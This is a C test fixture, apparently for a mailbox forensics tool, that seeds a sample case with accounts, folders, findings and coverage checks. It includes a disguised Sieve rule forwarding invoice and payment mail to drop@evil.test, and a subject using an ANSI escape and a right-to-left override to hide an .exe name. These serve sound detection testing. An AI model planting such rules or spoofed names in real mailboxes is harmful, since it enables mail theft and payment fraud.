/* screen_case.c - see screen_case.h. */
#include "screen_case.h"

#include "screen_letters.h"

#include "base/clock.h"
#include "base/limits.h"
#include "case/evidence.h"
#include "case/journal.h"
#include "case/tables.h"
#include "parse/rule.h"

#include <poll.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <string.h>
#include <time.h>

#include <cmocka.h>

static void add_account(struct screen_world *world)
{
    struct account account = {
        .user = "lan.nguyen@acme.example",
        .host = "imap.acme.example",
        .address = "lan.nguyen@acme.example",
        .server = "Dovecot (Debian) ready",
        .certificate = "CN=imap.acme.example, issued by Example CA",
    };

    screen_check(world, account_put(world->cf, &account, &world->err));
    world->account = account.id;
}

static int64_t add_folder(struct screen_world *world, const char *name, enum folder_use use,
                          const char *acl)
{
    struct folder folder = {
        .account = world->account,
        .name = name,
        .raw_name = name,
        .delimiter = '/',
        .use = use,
        .attributes = "\\HasNoChildren",
        .uidvalidity = 7,
        .uidnext = 100,
        .exists = 12,
        .current = true,
        .acl = acl,
    };

    screen_check(world, folder_put(world->cf, &folder, &world->err));
    return folder.id;
}

/* --- rules --- */

static const char script[] = "# rule:[.]\r\n"
                             "if header :contains \"subject\" [\"invoice\", \"payment\"]\r\n"
                             "{\r\n"
                             "\tredirect \"drop@evil.test\";\r\n"
                             "\tfileinto \"RSS Feeds\";\r\n"
                             "\tstop;\r\n"
                             "}\r\n";

static void add_rules(struct screen_world *world)
{
    const char *words[] = {"invoice", "payment"};
    struct rule_condition condition = {.field = RULE_SUBJECT,
                                       .match = RULE_CONTAINS,
                                       .header = "",
                                       .values = words,
                                       .value_count = 2,
                                       .raw = ""};
    struct rule_action does[] = {{RULE_FORWARD, false, "drop@evil.test", ""},
                                 {RULE_MOVE, false, "RSS Feeds", ""},
                                 {RULE_STOP, false, "", ""}};
    struct rule rule = {.source = "sieve",
                        .script = "managesieve",
                        .name = ".",
                        .order = 1,
                        .enabled = true,
                        .join = RULE_ANY,
                        .conditions = &condition,
                        .condition_count = 1,
                        .actions = does,
                        .action_count = ARRAY_LEN(does),
                        .traits = RULE_SHOWN,
                        .line = 2,
                        .comment = "rule:[.]",
                        .raw = "if header :contains \"subject\" [\"invoice\", \"payment\"]\n{\n"
                               "\tredirect \"drop@evil.test\";\n\tfileinto \"RSS Feeds\";\n"
                               "\tstop;\n}",
                        .dialect = "roundcube",
                        .shown = "if subject contains \"newsletter\": move to RSS Feeds",
                        .actual = "if subject contains \"invoice\" or \"payment\": forward to "
                                  "drop@evil.test, move to RSS Feeds, stop"};
    struct rule_look look = {world->account, "sieve", "managesieve", world->run};
    struct rule_row rows[1] = {0};
    struct buf blob;
    struct hash raw;

    buf_init(&blob, KIB(64));
    rule_encode(&rule, &blob);
    screen_check(world, evidence_put(world->cf, str_of(script), &raw, &world->err));
    rows[0] = (struct rule_row){.account = world->account,
                                .source = "sieve",
                                .script = "managesieve",
                                .name = ".",
                                .order = 1,
                                .active = true,
                                .raw = raw,
                                .status = PARSE_OK,
                                .summary = rule.actual,
                                .blob = buf_as_str(&blob)};
    screen_check(world, rule_replace(world->cf, &look, rows, 1, &world->err));
    look.script = rows[0].script = "old\xe2\x80\xae-backup";
    rows[0].name = "";
    rows[0].active = false;
    rows[0].status = PARSE_CRASHED;
    rows[0].summary = "a script that could not be read";
    rows[0].blob = str_of("");
    screen_check(world, rule_replace(world->cf, &look, rows, 1, &world->err));
    buf_dispose(&blob);
}

/* --- findings and coverage --- */

static void add_finding(struct screen_world *world, struct finding finding)
{
    struct finding_reason reasons[] = {{"it forwards to drop@evil.test, outside acme.example", 40},
                                       {"it looks for the words invoice and payment", 25},
                                       {"its name is a single dot", 10}};
    struct finding_subject subjects[] = {
        {"rule", 1, hash_of(str_of(script)), "rule \".\" of managesieve"},
        {"message", 4, hash_of(str_of("x")), "4711.march@mail.example"},
        {"domain", 0, {{0}}, "evil.test"}};

    finding.reasons = reasons;
    finding.reason_count = ARRAY_LEN(reasons);
    finding.subjects = subjects;
    finding.subject_count = ARRAY_LEN(subjects);
    screen_check(world, finding_put(world->cf, &finding, world->run, &world->err));
}

static void add_findings(struct screen_world *world)
{
    add_finding(world,
                (struct finding){
                    .key = "forward-outside:1",
                    .detector = "forward-outside",
                    .severity = SEVERITY_CRITICAL,
                    .title = "Someone set a rule that sends mail about invoices to drop@evil.test",
                    .explanation = "Mail with \"invoice\" or \"payment\" in its subject leaves the "
                                   "company and never reaches the inbox.",
                    .refute = "The owner knows this address and set the rule himself.",
                    .blind = "Does not see forwarding that an administrator set on the server.",
                    .attack = "T1114.003 T1564.008",
                    .when = INT64_MIN,
                });
    add_finding(world, (struct finding){
                           .key = "bank-details:4",
                           .detector = "bank-details",
                           .severity = SEVERITY_HIGH,
                           .title = "A sent mail gives new bank details to mai@buyer.example",
                           .explanation = "The account was never used before.",
                           .refute = "The bank confirms the change by telephone.",
                           .blind = "Sees no details in pictures.",
                           .attack = "T1657",
                           .when = clock_from_civil(2024, 3, 5, 3, 30, 0),
                       });
    add_finding(world, (struct finding){
                           .key = "odd-subject:7",
                           .detector = "odd-subject",
                           .severity = SEVERITY_MEDIUM,
                           .title = "A subject hides characters: \x1b[31m \xe2\x80\xae"
                                    "fdp.exe",
                           .explanation = "Terminals and mail programs may obey them.",
                           .refute = "",
                           .blind = "Sees only what was decoded.",
                           .attack = "",
                           .when = clock_from_civil(2024, 3, 8, 4, 30, 0),
                       });
}

static void add_coverage(struct screen_world *world)
{
    static const struct coverage rows[] = {
        {.check = "rules-sieve",
         .title = "Rules on the server (Sieve)",
         .state = COVERAGE_FOUND,
         .detail = "2 scripts, 1 active",
         .hint = ""},
        {.check = "attachments",
         .title = "Attachments",
         .state = COVERAGE_PARTLY,
         .detail = "1 message goes beyond a limit",
         .hint = ""},
        {.check = "sent-mail",
         .title = "Sent mail",
         .state = COVERAGE_NOTHING,
         .detail = "2 messages",
         .hint = ""},
        {.check = "server-state",
         .title = "Nothing on the server was changed by reading",
         .state = COVERAGE_NOTHING,
         .detail =
             "flags, \\Recent, sizes and dates of all messages in 3 folders are what they were",
         .hint = ""},
        {.check = "sign-ins",
         .title = "Sign-ins",
         .state = COVERAGE_NOT_CHECKED,
         .detail = "no log was imported",
         .hint = "ask the provider for the sign-in log and import it"},
    };

    for (size_t i = 0; i < ARRAY_LEN(rows); i++)
        screen_check(world, coverage_put(world->cf, &rows[i], world->run, &world->err));
}

static void open_new(struct screen_world *world, const char *path)
{
    struct case_info info = {.owner = "lan.nguyen@acme.example",
                             .authority = "Ms Tran, director, by telephone"};

    screen_check(world, case_create(path, &info, &world->err));
    screen_check(world, casefile_open(&world->cf, path, CASE_WRITE, &world->err));
}

struct casefile *screen_case_empty(const char *path)
{
    struct screen_world world = {0};

    open_new(&world, path);
    return world.cf;
}

/* The timeline sorts by seconds: what is made here should not be in the middle of two of them. */
static void wait_for_early_in_a_second(void)
{
    enum { EARLY_MS = 600 };
    struct timespec now;

    clock_gettime(CLOCK_REALTIME, &now);
    if (now.tv_nsec / 1000000 > EARLY_MS)
        poll(NULL, 0, 1001 - (int)(now.tv_nsec / 1000000));
}

struct casefile *screen_case(const char *path)
{
    struct screen_world world = {0};

    open_new(&world, path);
    wait_for_early_in_a_second();
    screen_check(&world, casefile_begin(world.cf, &world.err));
    screen_check(&world, run_begin(world.cf, "acquire", "imaps://imap.acme.example", &world.run,
                                   &world.err));
    add_account(&world);
    world.inbox = add_folder(&world, "INBOX", FOLDER_INBOX, "lan.nguyen@acme.example lrswi");
    world.sent = add_folder(&world, "Sent", FOLDER_SENT,
                            "lan.nguyen@acme.example lrswi, helper@acme.example lr");
    world.rss = add_folder(&world, "RSS Feeds", FOLDER_PLAIN, "anyone lr");
    screen_letters(&world);
    add_rules(&world);
    add_findings(&world);
    add_coverage(&world);
    screen_check(&world, finding_scanned(world.cf, world.run, &world.err));
    screen_check(&world, journal_note(world.cf, "result", "acquire-end",
                                      "imaps://imap.acme.example", "ok", &world.err));
    screen_check(&world, run_end(world.cf, world.run, "ok", &world.err));
    screen_check(&world, casefile_commit(world.cf, &world.err));
    arena_dispose(&world.arena);
    return world.cf;
}

void screen_case_grow(struct casefile *cf, int64_t count)
{
    int64_t begin = clock_from_civil(2023, 1, 1, 0, 0, 0);
    struct screen_world world = {.cf = cf};

    screen_check(&world, casefile_begin(cf, &world.err));
    for (int64_t i = 0; i < count; i++) {
        struct message message = {
            .folder = 1,
            .uid = (uint32_t)(1000 + i),
            .size = 12345,
            .received = begin + i * 60,
            .flags = "",
            .limit = "",
            .date = INT64_MIN,
            .from = "",
            .to = "",
            .subject = "",
            .message_id = "",
        };
        int64_t id;

        screen_check(&world, message_plan(cf, &message, &id, &world.err));
    }
    screen_check(&world, casefile_commit(cf, &world.err));
}
